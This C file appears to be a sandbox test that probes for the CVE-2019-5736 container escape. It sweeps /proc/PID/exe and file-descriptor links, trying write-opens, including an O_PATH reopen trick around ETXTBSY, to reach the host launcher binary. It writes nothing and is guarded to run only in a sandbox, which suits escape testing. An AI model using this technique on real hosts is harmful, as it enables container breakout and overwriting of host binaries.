/* CVE-2019-5736 class: try, in a loop, to open every /proc/PID/exe and
 * /proc/PID/fd/N for writing (and to reopen O_PATH handles through
 * /proc/self/fd), looking for the launcher's binary, named by its host
 * device and inode numbers in argv.  Writes nothing: an open for writing of
 * that file is already the escape.  Prints "tries N hits N". */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "guard.h"

static unsigned long long want_dev, want_ino;
static long tries, hits;

static void attempt(const char *path)
{
        struct stat st;
        int fd;

        tries++;
        fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
        if (fd < 0) {
                /* the ETXTBSY way round: keep an O_PATH handle, reopen it */
                int p = open(path, O_PATH | O_CLOEXEC);
                char again[64];

                if (p < 0)
                        return;
                snprintf(again, sizeof again, "/proc/self/fd/%d", p);
                fd = open(again, O_WRONLY | O_APPEND | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
                close(p);
                if (fd < 0)
                        return;
        }
        if (fstat(fd, &st) == 0 && S_ISREG(st.st_mode) &&
            ((unsigned long long)st.st_dev == want_dev && (unsigned long long)st.st_ino == want_ino)) {
                hits++;
                printf("HIT %s\n", path);
        }
        close(fd);
}

static void sweep(void)
{
        DIR *proc = opendir("/proc");
        struct dirent *e;
        char path[600];

        if (!proc)
                return;
        while ((e = readdir(proc))) {
                if ((e->d_name[0] < '0' || e->d_name[0] > '9') && strcmp(e->d_name, "self"))
                        continue;
                snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
                attempt(path);
                snprintf(path, sizeof path, "/proc/%s/fd", e->d_name);
                DIR *fds = opendir(path);
                if (!fds)
                        continue;
                struct dirent *f;
                while ((f = readdir(fds))) {
                        if (f->d_name[0] == '.')
                                continue;
                        snprintf(path, sizeof path, "/proc/%s/fd/%s", e->d_name, f->d_name);
                        attempt(path);
                }
                closedir(fds);
        }
        closedir(proc);
        attempt("/proc/1/exe");
        attempt("/proc/self/exe");
}

int main(int argc, char **argv)
{
        struct timespec start, now;

        nsl_refuse_outside_sandbox("overwrite");

        if (argc != 4) {
                fprintf(stderr, "usage: overwrite DEV INO SECONDS\n");
                return 2;
        }
        want_dev = strtoull(argv[1], NULL, 0);
        want_ino = strtoull(argv[2], NULL, 0);
        double seconds = atof(argv[3]);
        clock_gettime(CLOCK_MONOTONIC, &start);
        do {
                sweep();
                clock_gettime(CLOCK_MONOTONIC, &now);
        } while ((double)(now.tv_sec - start.tv_sec) + (double)(now.tv_nsec - start.tv_nsec) / 1e9 < seconds);
        printf("tries %ld hits %ld\n", tries, hits);
        return 0;
}
